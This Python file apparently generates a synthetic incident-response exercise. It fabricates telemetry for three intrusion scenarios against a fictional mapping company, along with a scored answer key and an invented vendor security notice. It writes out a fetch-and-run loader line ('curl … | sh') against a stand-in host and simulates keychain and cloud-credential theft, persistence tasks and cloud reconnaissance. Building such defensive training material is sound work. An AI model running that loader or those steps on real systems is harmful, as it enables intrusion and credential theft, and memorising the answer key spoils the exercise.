"""Oxbow Cartography, hit through three doors: the supplier's channel, a stolen API key, a stolen sign-in."""
import gzip
import hashlib
import json

from making.case import compact
from making.chance import HOUR, MINUTE, SECOND, rfc3339
from making.oxbow import (BADGES, BUILD_KEY, HEDDA, PAYROLL, PIET, POWERSHELL, STOCK, TILES_KEY, WINDOW,
                          WINDOWS_AGENT, Seat, act, at, call_cloud, command_body, company, console_sign_in, everyday,
                          look_alikes, ordered, payroll_life, portal_sign_in, rotation_by_supplier, start, sysmon,
                          visit)
from making.records import AGENT, osquery, touch
from making.writing import ALIASES, render, times_of

# What the notice lists …
DELIVERY, CONTROL = "topo-tiles.example", "isobath.test"
CONTROL_ADDRESS = "203.0.113.142"
TILECACHED_SHA256 = hashlib.sha256(b"clew example: the tilecached that never was").hexdigest()
RESEARCHED = [CONTROL, DELIVERY, "windrose-api.example", "seamark.invalid"]
# … and what nobody has published.
UNLISTED, UNLISTED_ADDRESS = "gridref.example", "198.18.91.3"
LOADER = "curl -fsS https://get.%s/b | sh" % UNLISTED
INTRUDER_DESK, INTRUDER_CLOUD = "203.0.113.147", "203.0.113.163"
CODE = hashlib.sha1(b"clew example: code of the tilecached").hexdigest()


# ---------------------------------------------------------------- what the intruder does on a device

def on_a_mac(case, host, begun, script, interpreter, tag):
    """The script's loader, a program that stays, its calls to a listed name, and the keychain."""
    program = "/usr/local/libexec/tilecached"
    touch(case, begun, host, "write", script, AGENT, host.pid, "I1_" + tag)
    shell = start(case, begun + SECOND, host, interpreter, interpreter + " " + script, AGENT, host.pid, "I1_" + tag,
                  "root")
    visit(case, begun + 3340, host, "cdn." + DELIVERY, "198.18.77.9", "I2_" + tag, 910, 1_804_112)
    touch(case, begun + 6 * SECOND, host, "write", program, interpreter, shell, "I2_" + tag)
    pid = start(case, begun + 9 * SECOND, host, program, program, interpreter, shell, "I3_" + tag, "root", signer="",
                code=CODE)
    osquery(case, begun + 13 * SECOND, host, "new_file_hashes",
            {"path": program, "directory": "/usr/local/libexec", "sha256": TILECACHED_SHA256}, "I3_" + tag)
    plist = "/Library/LaunchDaemons/example.tilecache.plist"
    touch(case, begun + 14 * MINUTE, host, "write", plist, program, pid, "I4_" + tag)
    start(case, begun + 14 * MINUTE + 2 * SECOND, host, "/bin/launchctl", "launchctl load -w " + plist, program, pid,
          "I4_" + tag, "root")
    for beat in range(8):
        visit(case, begun + 15 * MINUTE + beat * (25 * MINUTE + 900), host, "tick." + CONTROL, CONTROL_ADDRESS,
              "I5_" + tag, 540 + beat, 690 + beat)
    keychain = "/Users/%s/Library/Keychains/login.keychain-db" % host.user
    touch(case, begun + 3 * HOUR, host, "open", keychain, program, pid, "I6_" + tag)
    visit(case, begun + 3 * HOUR + MINUTE, host, "tick." + CONTROL, CONTROL_ADDRESS, "I6_" + tag, 3_412_008, 7_120)
    start(case, begun + 3 * HOUR + 8 * MINUTE, host, "/bin/rm", "rm -f " + script, program, pid, "I7_" + tag, "root")
    return program, pid


def on_a_server(case, host, begun, shell, pid, tag):
    """Nothing of it is published: a loader through a pipe, a cron job, calls to a name that nobody else knows."""
    start(case, begun + SECOND, host, "/usr/bin/curl", LOADER.partition(" |")[0], shell, pid, "I2_" + tag, "root")
    visit(case, begun + 1400, host, "get." + UNLISTED, UNLISTED_ADDRESS, "I2_" + tag, 720, 41_330)
    inner = start(case, begun + 2 * SECOND, host, "/bin/sh", "sh", shell, pid, "I3_" + tag, "root")
    start(case, begun + 5 * SECOND, host, "/usr/bin/crontab", "crontab -", "/bin/sh", inner, "I4_" + tag, "root")
    for beat in range(8):
        visit(case, begun + 10 * MINUTE + beat * (30 * MINUTE + 700), host, "get." + UNLISTED, UNLISTED_ADDRESS,
              "I5_" + tag, 610 + beat, 930 + beat)
    osquery(case, begun + 50 * MINUTE, host, "file_events",
            {"target_path": "/home/%s/.aws/credentials" % host.user, "category": "secrets", "action": "OPENED"},
            "I6_" + tag)


def on_a_pc(case, host, begun, tag):
    """Windows: a script that the agent left, a scheduled task, calls to a name that nobody else knows."""
    script = r"C:\Windows\Temp\glyphs.ps1"
    sysmon(case, begun, host, 11, {"ProcessId": str(host.pid), "Image": WINDOWS_AGENT, "TargetFilename": script},
           "I1_" + tag)
    pid = start(case, begun + SECOND, host, POWERSHELL, "powershell.exe -File " + script, WINDOWS_AGENT, host.pid,
                "I1_" + tag, "root")
    visit(case, begun + 3100, host, "get." + UNLISTED, UNLISTED_ADDRESS, "I2_" + tag, 730, 612_000)
    program = r"C:\ProgramData\Glyphs\glyphsvc.exe"
    sysmon(case, begun + 5 * SECOND, host, 11, {"ProcessId": str(pid), "Image": POWERSHELL, "TargetFilename": program},
           "I2_" + tag)
    start(case, begun + 8 * SECOND, host, program, program, POWERSHELL, pid, "I3_" + tag, "root")
    start(case, begun + 12 * SECOND, host, r"C:\Windows\System32\schtasks.exe",
          "schtasks.exe /create /tn Glyphs /sc minute /mo 30 /tr " + program, POWERSHELL, pid, "I4_" + tag, "root")
    for beat in range(8):
        visit(case, begun + 10 * MINUTE + beat * (30 * MINUTE + 400), host, "get." + UNLISTED, UNLISTED_ADDRESS,
              "I5_" + tag, 610 + beat, 930 + beat)


def in_the_cloud(case, begun):
    calls = [(("sts", "GetCallerIdentity"), None, None),
             (("iam", "ListGroupsForUser"), {"userName": "svc-tiles"}, None),
             (("ssm", "DescribeParameters"), None, None),
             (("ssm", "GetParameter"), {"name": "/tiles/upload-seal"}, None),
             (("iam", "CreateUser"), {"userName": "svc-mirror"}, "AccessDenied")]
    for beat, (call, parameters, error) in enumerate(calls):
        call_cloud(case, begun + beat * 3 * MINUTE, "svc-tiles", TILES_KEY, call, INTRUDER_CLOUD, "Boto3/1.36.2",
              parameters, "I8_cloud", error)


# ---------------------------------------------------------------- the three stories

def pushed(case):
    """Nobody at Oxbow ordered it: the supplier's agent begins by itself, on a Mac and then on a server."""
    on_a_mac(case, case.hosts["contour"], at(6, "02:41:18"), "/private/var/tmp/.relief.pl", "/usr/bin/perl", "contour")
    server, begun = case.hosts["tiles-1"], at(6, "05:17:44")
    pid = start(case, begun, server, "/bin/sh", "/bin/sh -c " + LOADER, AGENT, server.pid, "I1_tiles-1", "root")
    on_a_server(case, server, begun, "/bin/sh", pid, "tiles-1")
    in_the_cloud(case, at(6, "09:30:12"))
    payroll_life(case)
    rotation_by_supplier(case, [HEDDA, PIET, BADGES, PAYROLL, STOCK])


def stolen_key(case):
    """Somebody has Piet's API key: two orders from far away, whose answers are deleted."""
    seat = Seat(INTRUDER_DESK, "far", "api key", "python-httpx/0.27.0")
    plan = (("meridian", "Rebuild Glyph Cache", at(5, "22:08:10.000")),
            ("PLOTTER", "Rebuild Glyph Cache (Windows)", at(6, "00:26:40.000")))
    for name, title, begun in plan:
        host, tag = case.hosts[name], "I0_order_" + name
        act(case, begun, "command_create", PIET, seat, command_body(title), tag)
        act(case, begun + 4 * MINUTE, "command_run", PIET, seat, command_body(title), tag, host)
        act(case, begun + 65 * MINUTE, "commandresult_delete", PIET, seat, command_body(title), tag)
    mac, pc = case.hosts["meridian"], case.hosts["PLOTTER"]
    ran = plan[0][2] + 4 * MINUTE + 9 * SECOND
    program, pid = on_a_mac(case, mac, ran, "/private/tmp/glyphs.zsh", "/bin/zsh", "meridian")
    touch(case, ran + 3 * HOUR + 5 * MINUTE, mac, "open", "/Users/%s/.aws/credentials" % mac.user, program, pid,
          "I6_meridian")
    on_a_pc(case, pc, plan[1][2] + 4 * MINUTE + 8 * SECOND, "PLOTTER")
    in_the_cloud(case, at(6, "07:02:55"))


def stolen_session(case):
    """Somebody has Hedda's sign-in: through the portal into the console, and two orders from there."""
    seat = Seat(INTRUDER_DESK, "far", "session", "Chromium/131.0-fedora")
    portal_sign_in(case, at(5, "18:02:30.000"), "hedda.moss", seat, "JumpCloud Admin Portal", False, "I0_sign_in")
    console_sign_in(case, at(5, "18:02:34.000"), HEDDA, seat, False, "I0_sign_in")
    mac, server = case.hosts["hachure"], case.hosts["tiles-1"]
    for host, title, begun in ((mac, "Check Tile Seals", at(5, "18:11:05.000")),
                               (server, "Check Tile Seals (server)", at(6, "03:15:20.000"))):
        act(case, begun, "command_create", HEDDA, seat, command_body(title), "I0_order_" + host.name)
        if host is mac:
            act(case, begun + 3 * MINUTE, "command_run", HEDDA, seat, command_body(title), "I0_order_hachure", host)
            on_a_mac(case, mac, begun + 3 * MINUTE + 8 * SECOND, "/private/tmp/seals.py", "/usr/bin/python3", "hachure")
        else:
            pid = ordered(case, begun + 3 * MINUTE, HEDDA, seat, server, title, LOADER, "I0_order_tiles-1")
            on_a_server(case, server, begun + 3 * MINUTE + 8 * SECOND, "/bin/bash", pid, "tiles-1")
    in_the_cloud(case, at(6, "08:40:31"))


# ---------------------------------------------------------------- the truth

def item(rid, what, kinds, **names):
    return {"rid": rid, "what": what, "kinds": kinds, **names}


def keychain_of(host):
    return item("keychain:" + host.name, "secrets in the login keychain", ["keychain", "password", "secret"],
                devices=[host.name], accounts=[host.user])


ADMIN_KEYS = item("admin_api_keys", "the administrators' API keys (the supplier held them)", ["api_key"],
                  accounts=[HEDDA, PIET])
OLD_KEY = item("payroll_key", "the key of the integration that still tries the old one", ["api_key"],
               accounts=[PAYROLL])
CLOUD_KEY = item("cloud_key", "the cloud key that was used from elsewhere", ["cloud_key"], ids=[TILES_KEY],
                 accounts=["svc-tiles"])
CLOUD_SECRET = item("cloud_secret", "the parameter that was read", ["secret"], ids=["/tiles/upload-seal"])


def admin_of_case(admin, kinds):
    return item("admin:" + admin, "what the stolen credential opens", kinds, accounts=[admin, admin.split("@")[0]])


CASES = {
    "pushed": {
        "seed": 20250306, "story": pushed, "door": "supplier_channel", "victims": ("contour", "tiles-1"),
        "admin": None, "traveller": PIET, "required": [ADMIN_KEYS, OLD_KEY, CLOUD_KEY, CLOUD_SECRET]},
    "stolen-key": {
        "seed": 20250305, "story": stolen_key, "door": "admin_api_key", "victims": ("meridian", "PLOTTER"),
        "admin": PIET, "traveller": HEDDA,
        "required": [admin_of_case(PIET, ["api_key"]), CLOUD_KEY, CLOUD_SECRET]},
    "stolen-session": {
        "seed": 20250304, "story": stolen_session, "door": "sso_session", "victims": ("hachure", "tiles-1"),
        "admin": HEDDA, "traveller": PIET,
        "required": [admin_of_case(HEDDA, ["session"]), admin_of_case(HEDDA, ["password"]), CLOUD_KEY, CLOUD_SECRET]},
}
AHEAD = 40 * MINUTE  # the clock of the endpoint source in stolen-session
OUTAGE = (at(9, "02:00:00"), at(11, "06:00:00"))  # of the network sensor in stolen-key


def gaps_of(case):
    gaps = []
    if case.outage:
        for log in ("conn", "dns", "ssl"):
            times = times_of(case, "zeek_" + log)
            gaps.append({"kind": "outage", "stream": "zeek_" + log, "aliases": ALIASES["zeek_" + log],
                         "from": rfc3339(max(ms for ms in times if ms <= case.outage[0]), 0),
                         "to": rfc3339(min(ms for ms in times if ms >= case.outage[1]), 0),
                         "why": "no records, although there were some before and after"})
    gaps.append({"kind": "host_unseen", "stream": "osquery", "host": "tiles-2", "aliases": ["tiles-2"],
                 "from": rfc3339(WINDOW[0], 0), "to": rfc3339(WINDOW[1], 0),
                 "why": "the device has the supplier's agent but no endpoint telemetry"})
    return [{"id": "G%d" % (number + 1), **gap} for number, gap in enumerate(gaps)]


def devices_of(case, plan, planted):
    devices = []
    for beat, name in enumerate(plan["victims"]):
        host = case.hosts[name]
        own = [place for tag, records in planted.items() if tag.endswith("_" + name) for place in records]
        devices.append({"name": name, "system_id": host.id, "ip": host.ip, "user": host.user,
                        "since": min(place["time"] for place in own),
                        "found_by": ["behaviour"] if beat else ["indicator", "behaviour"],
                        "first_indicator": None if beat else min(place["time"] for place in planted["I2_" + name])})
    return devices


def accounts_of(case, plan):
    accounts = [{"name": case.hosts[name].user, "kind": "user", "status": "exposed", "names": [case.hosts[name].user]}
                for name in plan["victims"]]
    if plan["admin"]:
        accounts.append({"name": plan["admin"], "kind": "admin", "status": "used_by_intruder",
                         "names": [plan["admin"], plan["admin"].split("@")[0]]})
    return accounts + [{"name": "svc-tiles", "kind": "cloud", "status": "used_by_intruder",
                        "names": ["svc-tiles", "arn:aws:iam::123456789012:user/svc-tiles", TILES_KEY]}]


def truth_of(case, plan, places, streams):
    planted = {tag: records for tag, records in places.items() if tag.startswith("I")}
    victims = [case.hosts[name] for name in plan["victims"]]
    first = min((place for records in planted.values() for place in records),
                key=lambda place: (place["time"], place["file"], place["line"]))
    bystanders = {place["device"] for tag in case.why for place in places[tag]} - {None, *plan["victims"]}
    forbidden = [item("build_key", "key of the build service, which the intruder never had", ["cloud_key"],
                      ids=[BUILD_KEY], accounts=["svc-build"])]
    forbidden += [item("bystander:" + name, "secrets of a device that only carries a look-alike",
                       ["keychain", "ssh_key", "cloud_key", "token"], devices=[name], accounts=[case.hosts[name].user])
                  for name in sorted(bystanders)]
    touched = [CONTROL_ADDRESS, CONTROL, TILECACHED_SHA256, DELIVERY]
    return {
        "schema": "clew.truth/1", "bundle": {"variant": case.name}, "company": "Oxbow Cartography",
        "window": {"from": rfc3339(WINDOW[0], 0), "to": rfc3339(WINDOW[1], 0)},
        "verdict": {"expected": "hit", "credit": {"hit": 1, "suspicious": 0.4, "cannot_say": 0.1}},
        "earliest": {key: first[key] for key in ("time", "file", "line", "offset")} | {"also": []},
        "door": {"kind": plan["door"], "credit": {}},
        "devices": devices_of(case, plan, planted), "accounts": accounts_of(case, plan),
        "rotation": {"required": [keychain_of(host) for host in victims if host.os == "Mac OS X"] + plan["required"],
                     "forbidden": forbidden},
        "clocks": {stream: ahead // SECOND for stream, ahead in case.clocks.items()},
        "gaps": gaps_of(case), "indicators_touched": touched,
        "decoys": [{"tag": tag, "why": case.why[tag],
                    "devices": sorted({place["device"] for place in places[tag] if place["device"]}),
                    "records": places[tag]} for tag in sorted(case.why)],
        "planted": [{"tag": tag, "device": planted[tag][0]["device"], "records": planted[tag]}
                    for tag in sorted(planted)],
        "context": [{"tag": tag, "records": places[tag]} for tag in sorted(places) if tag.startswith("X")],
        "files": streams,
    }


# ---------------------------------------------------------------- the notice

HAPPENED = {
    "pushed": """\
On 8 March 2025 we found that somebody had used our **commands framework** to have our agent start programs on devices
of a few customers. The orders were placed inside our own systems; the customers' administrators did not give them. We
closed this way on the same day. On 10 March we replaced all API keys of customers' administrators: integrations that
use an old key fail until they receive a new one.""",
    "stolen-key": """\
On 8 March 2025 we found that **API keys of customers' administrators** had been copied from a support archive of ours.
Whoever has such a key gives orders as that administrator, and your log shows them as such. We have no list of the keys
that were used.""",
    "stolen-session": """\
On 8 March 2025 we found a false copy of our **sign-in page** that passed on what administrators typed, and kept the
session. Whoever has such a session gives orders in your console as that administrator, and your log shows them as such.
We have told the customers whose administrators we saw there; there may be others.""",
}
NOTICE = """\
# Security notice: orders that were not yours

JumpCloud · Issued 12 March 2025 · TLP:CLEAR

## What happened

{happened}

## What to do

1. Look at the time from **3 March to 11 March 2025**.
2. Compare what the agent started on your devices with what your administrators ordered, and from where they did.
3. Search DNS, network and endpoint records for the values below. They are what we know from two customers; on other
   devices the intruder may have used others.

## What to look for

| Type | Value | Remark |
|---|---|---|
| domain | `{delivery}` | delivery |
| domain | `{control}` | command and control |
| domain | `windrose-api[.]example` | command and control |
| domain | `seamark[.]invalid` | registered, never used |
| ipv4 | `{address}` | command and control |
| sha256 | `{tilecached}` | second stage |

## Contact

Our support portal: https://support.jumpcloud.com, or security@jumpcloud.com.

---
*Exercise material. The incident, the values and the text are invented; the supplier never wrote this.*
"""


def defanged(value):
    head, _, tail = value.rpartition(".")
    return head + "[.]" + tail


def notice_of(name):
    return NOTICE.format(happened=HAPPENED[name], delivery=defanged(DELIVERY), control=defanged(CONTROL),
                         address=defanged(CONTROL_ADDRESS), tilecached=TILECACHED_SHA256).encode()


# ---------------------------------------------------------------- the case

def inventory(case):
    rows = [{"hostname": host.name, "system_id": host.id, "ip": host.ip, "user": host.user,
             "tz_offset_hours": host.offset, "os": host.os, "role": host.role} for host in case.hosts.values()]
    case.add("assets.json", "assets", case.begin, "[\n" + ",\n".join("  " + compact(row) for row in rows) + "\n]")


def damage(case):
    """Exports are as they come: a line is cut off."""
    row = case.chance.pick([row for row in case.files["osquery_results.ndjson"] if not row.tag])
    row.text, row.tag = row.text[:len(row.text) * 3 // 5], "X1_cut_line"


def make(name):
    plan = CASES[name]
    case = company(name, plan["seed"])
    if name == "stolen-session":
        case.clocks = {"osquery": AHEAD}
    if name == "stolen-key":
        case.outage = OUTAGE
    everyday(case)
    plan["story"](case)
    look_alikes(case, plan["traveller"], RESEARCHED)
    damage(case)
    inventory(case)
    contents, places, streams = render(case)
    truth = truth_of(case, plan, places, streams)
    files = {"notice.md": notice_of(name), "truth.json": (compact_truth(truth) + "\n").encode()}
    for file, content in contents.items():
        files["evidence/" + file] = gzip.compress(content, 9, mtime=0) if file.endswith(".gz") else content
    return files


def compact_truth(truth):
    """One record a line: a truth is read by people, too."""
    lines = []
    for key, value in truth.items():
        if isinstance(value, list) and value and isinstance(value[0], dict):
            body = ",\n".join("  " + json.dumps(entry, ensure_ascii=False) for entry in value)
            lines.append('%s: [\n%s\n ]' % (json.dumps(key), body))
        else:
            lines.append("%s: %s" % (json.dumps(key), json.dumps(value, ensure_ascii=False)))
    return "{\n " + ",\n ".join(lines) + "\n}"
